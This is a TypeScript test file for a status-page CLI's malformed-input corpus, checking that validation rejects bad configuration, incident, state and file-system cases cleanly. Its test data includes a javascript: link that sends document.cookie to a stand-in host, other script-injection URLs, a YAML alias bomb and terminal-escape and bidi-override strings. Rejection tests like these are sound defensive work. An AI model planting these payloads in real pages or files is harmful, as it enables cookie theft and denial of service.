/**
 * The malformed-input corpus: one small workspace per mistake (configuration, providers, rules, incidents,
 * stored state and data, file-system oddities). Each goes through the real CLI — validate, probe and build —
 * and each must exit 1 with a `file:line` problem naming the field (or the file, for whole-file damage),
 * write nothing, and show no stack trace. The cases run in this one process through the CLI's entry
 * point; a few also run as separate processes, as `npm run` starts them, to prove the same there.
 */
import { cp, lstat, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { stringify } from "yaml";
import { runCli, spawnCli } from "../helpers/cli.ts";
import { tempDir } from "../helpers/workspace.ts";

type Yaml = Record<string, any>;

const CONFIG = "checks/signalroom.yaml";
const PROVIDER = "checks/providers/payments.yaml";
const RULES = "checks/alert-rules.yaml";
const INCIDENT = "incidents/2026-11-16-slow.md";
const STATE = "checks/state.json";

const config = (): Yaml => ({
  page: { title: "Status" },
  lanes: [{ id: "payments", name: "Payments" }],
  routes: [
    { id: "ops", channel: "webhook", url: "${env:HOOK_URL}" },
    { id: "pager", channel: "pagerduty", routingKey: "${env:PAGERDUTY_ROUTING_KEY}", quietHours: { start: "22:00", end: "06:00" } },
  ],
  severityRoutes: { critical: ["pager"] },
});
const provider = (): Yaml => ({
  id: "payments",
  name: "Payments",
  lane: "payments",
  owner: "Payments team",
  kind: "system",
  readiness: "live",
  protects: "Checkout",
  recovery: "Fail over to the standby",
  evidence: { note: "Card payments", links: [{ title: "Dashboard", url: "https://grafana.example/d/1" }] },
  public: { name: "Payments" },
  checks: [
    { id: "payments-port", type: "tcp", host: "127.0.0.1", port: 9 },
    { id: "payments-api", type: "http", url: "https://payments.example/health", headers: { Authorization: "Bearer ${env:API_TOKEN}" } },
  ],
});
const rules = (): Yaml => ({
  rules: [{ id: "payments-down", description: "Payments are down", severity: "critical", checks: ["payments-port"], condition: { type: "state", state: "down" }, routes: ["ops"] }],
});
const incident = (): Yaml => ({
  id: "2026-11-16-slow",
  title: "Slow payments",
  severity: "SEV-3",
  status: "investigating",
  providers: ["payments"],
  started: "2026-11-16T10:45:00Z",
  evidence: [{ note: "Probe samples", url: "https://grafana.example/d/1" }],
});
const state = () => ({
  version: 1,
  updatedAt: "2026-11-16T10:45:00Z",
  checks: { "payments-port": { status: "up", since: "2026-11-16T10:00:00Z", cadenceMs: 300000 } },
  alerts: {},
  outbox: [],
});

const markdown = (frontmatter: Yaml) => `---\n${stringify(frontmatter)}---\nWhat we know so far.\n`;

interface Case {
  name: string;
  /** The file the problem must name. */
  file: string;
  /** The field it must name (dotted path as printed); absent for damage to the whole file. */
  field?: string;
  setup(root: string): Promise<void>;
}

/** A case that edits one YAML file's data (the edit may return a replacement). */
const yamlCase = (name: string, file: string, field: string, change: (data: Yaml) => Yaml | void): Case => ({
  name,
  file,
  field,
  async setup(root) {
    const data = base(file);
    await writeFile(join(root, file), file.endsWith(".md") ? markdown(change(data) ?? data) : stringify(change(data) ?? data));
  },
});
/** A case that writes a file's text as is. */
const textCase = (name: string, file: string, field: string | undefined, text: string | Buffer): Case => ({
  name,
  file,
  field,
  async setup(root) {
    await writeFile(join(root, file), text);
  },
});
const stateCase = (name: string, field: string, change: (data: any) => void): Case => ({
  name,
  file: STATE,
  field,
  async setup(root) {
    const data = state();
    change(data);
    await writeFile(join(root, STATE), JSON.stringify(data, null, 1));
  },
});
const fsCase = (name: string, file: string, setup: (root: string) => Promise<void>): Case => ({ name, file, setup });

function base(file: string): Yaml {
  if (file === CONFIG) return config();
  if (file === PROVIDER) return provider();
  if (file === RULES) return rules();
  return incident();
}

const NUL = "\u0000";
const ESC = "\u001b";
const BIDI = "\u202e";
const bomb = ["a: &a [x, x, x, x, x, x, x, x, x, x]", ...["b", "c", "d", "e", "f", "g"].map((name, index) => `${name}: &${name} [${Array(10).fill(`*${"abcdefg"[index]}`).join(", ")}]`), "rules: *g", ""].join("\n");

const CASES: Case[] = [
  // checks/signalroom.yaml
  yamlCase("page title missing", CONFIG, "page.title", (c) => void delete c.page.title),
  yamlCase("no lanes", CONFIG, "lanes", (c) => void (c.lanes = [])),
  yamlCase("default cadence 0s", CONFIG, "defaults.cadence", (c) => void (c.defaults = { cadence: "0s" })),
  yamlCase("default cadence that rounds to 0", CONFIG, "defaults.cadence", (c) => void (c.defaults = { cadence: "0.4ms" })),
  yamlCase("default timeout past the timer limit", CONFIG, "defaults.timeout", (c) => void (c.defaults = { timeout: "30d" })),
  yamlCase("default cadence in words", CONFIG, "defaults.cadence", (c) => void (c.defaults = { cadence: "5 minutes" })),
  yamlCase("too many retries", CONFIG, "defaults.retries", (c) => void (c.defaults = { retries: 9 })),
  yamlCase("run budget past the timer limit", CONFIG, "probe.budget", (c) => void (c.probe = { budget: "25d" })),
  yamlCase("continuous pause past the timer limit", CONFIG, "probe.every", (c) => void (c.probe = { every: "60d" })),
  yamlCase("no concurrency", CONFIG, "probe.concurrency", (c) => void (c.probe = { concurrency: 0 })),
  yamlCase("base path with a trailing slash", CONFIG, "page.basePath", (c) => void (c.page.basePath = "status/")),
  yamlCase("unknown time zone", CONFIG, "page.timezone", (c) => void (c.page.timezone = "Mars/Olympus")),
  yamlCase("daily rollups kept too briefly", CONFIG, "retention.daily", (c) => void (c.retention = { daily: "30d" })),
  yamlCase("retention beyond any date", CONFIG, "retention.samples", (c) => void (c.retention = { samples: "99999999999d" })),
  yamlCase("misspelt section", CONFIG, "pagee", (c) => void (c.pagee = { title: "x" })),
  yamlCase("quiet hours of no length", CONFIG, "routes[1].quietHours.end", (c) => void (c.routes[1].quietHours = { start: "22:00", end: "22:00" })),
  yamlCase("routing key written out", CONFIG, "routes[1].routingKey", (c) => void (c.routes[1].routingKey = "R0UTINGKEY0123456789abcdef")),
  yamlCase("Slack webhook address written out", CONFIG, "routes[0].webhookUrl", (c) => void (c.routes[0] = { id: "ops", channel: "slack", webhookUrl: "https://hooks.slack.example/services/T0/B0/abcdef" })),
  yamlCase("credential header of a route written out", CONFIG, "routes[0].headers.Authorization", (c) => void (c.routes[0].headers = { Authorization: "Bearer abcdefgh12345678" })),
  yamlCase("password in a webhook address", CONFIG, "routes[0].url", (c) => void (c.routes[0].url = "https://ops:hunter2hunter2@hooks.example/in")),
  yamlCase("signing secret written out", CONFIG, "routes[0].secret", (c) => void (c.routes[0].secret = "s3cret-s3cret")),
  yamlCase("misspelt channel", CONFIG, "routes[1].channel", (c) => void (c.routes[1].channel = "pagerdutty")),
  yamlCase("NUL in a lane name", CONFIG, "lanes[0].name", (c) => void (c.lanes[0].name = `Pay${NUL}ments`)),
  yamlCase("escape character in the title", CONFIG, "page.title", (c) => void (c.page.title = `Status${ESC}[2J`)),
  yamlCase("issue mirror token written out", CONFIG, "incidents.mirror.token", (c) => void (c.incidents = { mirror: { token: "ghp_abcdefghijklmnop" } })),
  yamlCase("escalation policy without steps", CONFIG, "escalationPolicies[0].steps", (c) => void (c.escalationPolicies = [{ id: "page", steps: [] }])),
  yamlCase("stale threshold of zero", CONFIG, "page.stale", (c) => void (c.page.stale = 0)),
  yamlCase("signal threshold over 100", CONFIG, "signals.operational", (c) => void (c.signals = { operational: 150 })),
  yamlCase("sample batch in words", CONFIG, "commit.sampleBatch", (c) => void (c.commit = { sampleBatch: "1 hour" })),
  yamlCase("unknown route in the severity routes", CONFIG, "severityRoutes.critical[0]", (c) => void (c.severityRoutes = { critical: ["pagr"] })),
  textCase("YAML syntax error", CONFIG, undefined, "page:\n  title: Status\n lanes: [\n"),
  textCase("duplicate key", CONFIG, undefined, "page:\n  title: Status\npage:\n  title: Again\nlanes:\n  - id: payments\n"),
  // checks/providers/<id>.yaml
  yamlCase("check cadence 0s", PROVIDER, "checks[0].cadence", (p) => void (p.checks[0].cadence = "0s")),
  yamlCase("check cadence past a week", PROVIDER, "checks[0].cadence", (p) => void (p.checks[0].cadence = "30d")),
  yamlCase("check timeout past the timer limit", PROVIDER, "checks[0].timeout", (p) => void (p.checks[0].timeout = "30d")),
  yamlCase("check timeout of 0ms", PROVIDER, "checks[0].timeout", (p) => void (p.checks[0].timeout = "0ms")),
  yamlCase("misspelt check type", PROVIDER, "checks[0].type", (p) => void (p.checks[0].type = "tpc")),
  yamlCase("password in a check address", PROVIDER, "checks[1].url", (p) => void (p.checks[1].url = "https://probe:hunter2hunter2@payments.example/health")),
  yamlCase("credential header written out", PROVIDER, "checks[1].headers.Authorization", (p) => void (p.checks[1].headers = { Authorization: "Bearer abcdefgh12345678" })),
  yamlCase("API key header written out", PROVIDER, "checks[1].headers.X-Api-Key", (p) => void (p.checks[1].headers = { "X-Api-Key": "key-1234567890" })),
  yamlCase("token in a check query", PROVIDER, "checks[1].url", (p) => void (p.checks[1].url = "https://payments.example/health?access_token=abc123def456")),
  yamlCase("status code out of range", PROVIDER, "checks[1].expectStatus[0]", (p) => void (p.checks[1].expectStatus = [600])),
  yamlCase("condition that does not parse", PROVIDER, "checks[1].conditions[0]", (p) => void (p.checks[1].conditions = ["[STATUS] === 200"])),
  yamlCase("negative retries", PROVIDER, "checks[0].retries", (p) => void (p.checks[0].retries = -1)),
  yamlCase("javascript: evidence link", PROVIDER, "evidence.links[0].url", (p) => void (p.evidence.links[0].url = "javascript:alert(document.cookie)")),
  yamlCase("data: evidence link", PROVIDER, "evidence.links[0].url", (p) => void (p.evidence.links[0].url = "data:text/html,<script>alert(1)</script>")),
  yamlCase("vbscript: evidence link", PROVIDER, "evidence.links[0].url", (p) => void (p.evidence.links[0].url = "vbscript:msgbox(1)")),
  yamlCase("NUL in the provider name", PROVIDER, "name", (p) => void (p.name = `Pay${NUL}ments`)),
  yamlCase("direction override in a check name", PROVIDER, "checks[0].name", (p) => void (p.checks[0].name = `port ${BIDI}evil`)),
  yamlCase("control character in a key", PROVIDER, "checks[1].headers.X-Tr\\u0007ce", (p) => void (p.checks[1].headers = { "X-Tr\u0007ce": "1" })),
  yamlCase("id that is not the file name", PROVIDER, "id", (p) => void (p.id = "payment")),
  yamlCase("unknown lane", PROVIDER, "lane", (p) => void (p.lane = "billing")),
  yamlCase("misspelt kind", PROVIDER, "kind", (p) => void (p.kind = "sytem")),
  yamlCase("two checks with one id", PROVIDER, "checks[1].id", (p) => void (p.checks[1].id = "payments-port")),
  yamlCase("latency objective in words", PROVIDER, "checks[1].latencyObjective", (p) => void (p.checks[1].latencyObjective = "fast")),
  yamlCase("port out of range", PROVIDER, "checks[0].port", (p) => void (p.checks[0].port = 70000)),
  yamlCase("too many redirects", PROVIDER, "checks[1].maxRedirects", (p) => void (p.checks[1].maxRedirects = 50)),
  yamlCase("empty public name", PROVIDER, "public.name", (p) => void (p.public.name = "")),
  // checks/alert-rules.yaml
  yamlCase("unknown condition type", RULES, "rules[0].condition.type", (r) => void (r.rules[0].condition = { type: "stat" })),
  yamlCase("business hours of no length", RULES, "rules[0].activeDuring.end", (r) => void (r.rules[0].activeDuring = { start: "09:00", end: "09:00" })),
  yamlCase("reminder storm", RULES, "rules[0].reminder", (r) => void (r.rules[0].reminder = "1m")),
  yamlCase("unknown check", RULES, "rules[0].checks[0]", (r) => void (r.rules[0].checks = ["payments-prot"])),
  yamlCase("misspelt severity", RULES, "rules[0].severity", (r) => void (r.rules[0].severity = "urgent")),
  yamlCase("window as a number", RULES, "rules[0].condition.within", (r) => void (r.rules[0].condition = { type: "errors", count: 3, within: 5 })),
  yamlCase("unknown route", RULES, "rules[0].routes[0]", (r) => void (r.rules[0].routes = ["opps"])),
  yamlCase("NUL in a description", RULES, "rules[0].description", (r) => void (r.rules[0].description = `down${NUL}`)),
  // incidents/<id>.md
  yamlCase("javascript: evidence in an incident", INCIDENT, "evidence[0].url", (i) => void (i.evidence[0].url = "javascript:fetch('//evil.example/'+document.cookie)")),
  yamlCase("data: evidence in an incident", INCIDENT, "evidence[0].url", (i) => void (i.evidence[0].url = "data:image/svg+xml,<svg onload=alert(1)>")),
  yamlCase("severity out of range", INCIDENT, "severity", (i) => void (i.severity = "SEV-5")),
  yamlCase("start time without a zone", INCIDENT, "started", (i) => void (i.started = "2026-11-16 10:45")),
  yamlCase("NUL in an incident title", INCIDENT, "title", (i) => void (i.title = `Slow${NUL}`)),
  yamlCase("unknown provider", INCIDENT, "providers[0]", (i) => void (i.providers = ["payment"])),
  textCase("frontmatter never closed", INCIDENT, undefined, "---\nid: 2026-11-16-slow\ntitle: Slow\n"),
  // checks/state.json
  textCase("state that is not JSON", STATE, undefined, '{"version": 1,,}'),
  textCase("empty state file", STATE, undefined, ""),
  stateCase("state time that is not a time", "updatedAt", (s) => void (s.updatedAt = "yesterday")),
  stateCase("state cadence 0", "checks.payments-port.cadenceMs", (s) => void (s.checks["payments-port"].cadenceMs = 0)),
  stateCase("state of another version", "version", (s) => void (s.version = 2)),
  stateCase("unknown check status", "checks.payments-port.status", (s) => void (s.checks["payments-port"].status = "sideways")),
  stateCase("outbox entry without a route", "outbox[0].route", (s) => void (s.outbox = [{ key: "k", createdAt: "2026-11-16T10:45:00Z", severity: "high", title: "t", items: [] }])),
  // the file system
  fsCase("a file where checks/providers should be", "checks/providers", async (root) => {
    await rm(join(root, "checks/providers"), { recursive: true });
    await writeFile(join(root, "checks/providers"), "providers: here?\n");
  }),
  fsCase("a provider file that is a looping link", "checks/providers/loop.yaml", (root) => symlink("loop.yaml", join(root, "checks/providers/loop.yaml"))),
  fsCase("a folder where the configuration should be", CONFIG, async (root) => {
    await rm(join(root, CONFIG));
    await mkdir(join(root, CONFIG));
  }),
  textCase("a binary provider file", PROVIDER, undefined, Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52])),
  textCase("text that is not UTF-8", PROVIDER, undefined, Buffer.from([0x69, 0x64, 0x3a, 0x20, 0xc3, 0x28, 0x0a])),
  textCase("an alias bomb", RULES, undefined, bomb),
  fsCase("a provider file ending in .yml", "checks/providers/payments.yml", async (root) => {
    await cp(join(root, PROVIDER), join(root, "checks/providers/payments.yml"));
    await rm(join(root, PROVIDER));
  }),
  fsCase("signalroom.yml beside signalroom.yaml", "checks/signalroom.yml", (root) => writeFile(join(root, "checks/signalroom.yml"), "page: {title: Other}\n")),
  fsCase("a file where checks/results should be", "checks/results", (root) => writeFile(join(root, "checks/results"), "results\n")),
  fsCase("a folder where a rollup file should be", "checks/rollups/payments-port.json", async (root) => void (await mkdir(join(root, "checks/rollups/payments-port.json"), { recursive: true }))),
  fsCase("a folder where the state should be", STATE, async (root) => {
    await rm(join(root, STATE));
    await mkdir(join(root, STATE));
  }),
  textCase("a binary state file", STATE, undefined, Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00])),
  textCase("a binary incident file", INCIDENT, undefined, Buffer.from([0x00, 0x01, 0x02, 0x03])),
  fsCase("a file where checks/ should be", "checks", async (root) => {
    await rm(join(root, "checks"), { recursive: true });
    await writeFile(join(root, "checks"), "checks\n");
  }),
];

/** Every path under root with its type, size, time and content: equal before and after means nothing was written. */
async function snapshot(root: string): Promise<string[]> {
  const lines: string[] = [];
  const walk = async (dir: string) => {
    for (const entry of (await readdir(dir, { withFileTypes: true })).sort((a, b) => a.name.localeCompare(b.name))) {
      const path = join(dir, entry.name);
      const info = await lstat(path);
      const content = entry.isFile() ? (await readFile(path)).toString("base64") : "";
      lines.push(`${path} ${entry.isDirectory() ? "dir" : entry.isSymbolicLink() ? "link" : "file"} ${info.size} ${info.mtimeMs} ${content}`);
      if (entry.isDirectory()) await walk(path);
    }
  };
  await walk(root);
  return lines;
}

const STACK_TRACE = /^\s+at .+(:\d+:\d+\)?|\(native\))$|^(Type|Reference|Range|Syntax)?Error: /m;
const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

/** The problem line the case must produce: `file:line:col field: …`, or `file[:line:col] …` for the whole file. */
function expectedProblem(item: Case): RegExp {
  if (item.field) return new RegExp(`^${escape(item.file)}:\\d+:\\d+ ${escape(item.field)}: \\S`, "m");
  return new RegExp(`^${escape(item.file)}(:\\d+:\\d+)? \\S`, "m");
}

const COMMANDS = [["validate"], ["probe", "--once"], ["build"]] as const;
const ENV = { HOOK_URL: "http://127.0.0.1:9/hook", PAGERDUTY_ROUTING_KEY: "routing-key-0123456789", API_TOKEN: "api-token-0123456789" };

// The template outlives each test (tempDir folders are removed after every test).
let template: string;
afterAll(() => rm(template, { recursive: true, force: true }));
beforeAll(async () => {
  template = await mkdtemp(join(tmpdir(), "signalroom-corpus-"));
  await mkdir(join(template, "checks/providers"), { recursive: true });
  await mkdir(join(template, "incidents"), { recursive: true });
  await writeFile(join(template, CONFIG), stringify(config()));
  await writeFile(join(template, PROVIDER), stringify(provider()));
  await writeFile(join(template, RULES), stringify(rules()));
  await writeFile(join(template, INCIDENT), markdown(incident()));
  await writeFile(join(template, STATE), JSON.stringify(state(), null, 1));
});

async function workspaceFor(item: Case): Promise<string> {
  const root = await tempDir("signalroom-case-");
  await cp(template, root, { recursive: true });
  await item.setup(root);
  return root;
}

describe("the malformed-input corpus", () => {
  test("has at least 60 cases, each with its own name", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60);
    expect(new Set(CASES.map((item) => item.name)).size).toBe(CASES.length);
    expect(CASES.filter((item) => item.field).length).toBeGreaterThanOrEqual(60);
  });

  test("the workspace every case starts from is valid, so each case fails for its own mistake only", async () => {
    const result = await runCli(["validate", "--root", template], ENV);
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
  });

  test.each(CASES.map((item) => [item.name, item] as const))("%s: validate, probe and build exit 1, name it, write nothing", async (_, item) => {
    const root = await workspaceFor(item);
    const before = await snapshot(root);
    for (const args of COMMANDS) {
      const extra = args[0] === "build" ? ["--out", join(root, "dist")] : [];
      const result = await runCli([...args, "--root", root, ...extra], ENV);
      const output = `${result.stderr}${result.stdout}`;
      expect(result.code, `${args[0]}:\n${output}`).toBe(1);
      expect(result.stderr, `${args[0]}:\n${output}`).toMatch(expectedProblem(item));
      expect(output, `${args[0]}:\n${output}`).not.toMatch(STACK_TRACE);
      expect(await snapshot(root), `${args[0]} wrote something`).toEqual(before);
    }
  });

  test("as separate processes too: exit 1, the problem on stderr, no stack trace, nothing written", async () => {
    // One process per command (starting Node.js is the slow part), each with a case that once ended in a stack trace.
    const chosen = ["an alias bomb", "state that is not JSON", "a file where checks/providers should be"].map((name) => CASES.find((item) => item.name === name)!);
    const runs = await Promise.all(
      chosen.map((item, index) => [item, COMMANDS[index]!] as const).map(async ([item, args]) => {
          const root = await workspaceFor(item);
          const before = await snapshot(root);
          const extra = args[0] === "build" ? ["--out", join(root, "dist")] : [];
          const child = spawnCli(args[0], [...args.slice(1), "--root", root, ...extra], ENV);
          const code = await child.done;
          return { item, args, code, ...child.output(), written: (await snapshot(root)).join("\n") !== before.join("\n") };
      }),
    );
    for (const run of runs) {
      const label = `${run.args[0]} / ${run.item.name}:\n${run.stderr}${run.stdout}`;
      expect(run.code, label).toBe(1);
      expect(run.stderr, label).toMatch(expectedProblem(run.item));
      expect(`${run.stderr}${run.stdout}`, label).not.toMatch(STACK_TRACE);
      expect(run.written, label).toBe(false);
    }
  });
});
